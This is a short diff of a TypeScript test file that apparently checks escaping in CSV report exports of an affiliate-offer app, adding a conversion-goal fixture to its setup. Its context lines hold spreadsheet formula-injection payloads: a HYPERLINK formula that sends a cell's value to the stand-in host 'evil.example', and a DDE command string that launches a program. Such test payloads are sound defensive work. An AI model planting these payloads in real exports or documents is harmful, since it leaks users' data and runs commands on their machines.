@@ -10,6 +10,7 @@ import { conversions, offers } from '../src/db/schema.js';
 import { buildTestApp, callEndpoint, createPartner, expectOk, login, testClock, type TestApp } from './helper.js';
 import { advertiserTokenOf, createOffer } from './offer-fixtures.js';
 import { parseCsv } from './csv.js';
+import { goalsWithoutFloor } from './conversion-fixtures.js';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
 const CMD = "+cmd|'/C calc'!A0";
@@ -32,6 +33,7 @@ async function exported(type: ReportType): Promise<string[][]> {
 
 beforeAll(async () => {
   t = await buildTestApp({ now: clock.now });
+  await goalsWithoutFloor(t, ['registration']); // the conversion rules are on (decision 109)
   const partner = await createPartner(t);
   offerId = await createOffer(t, {
     name: '-Minus offer',
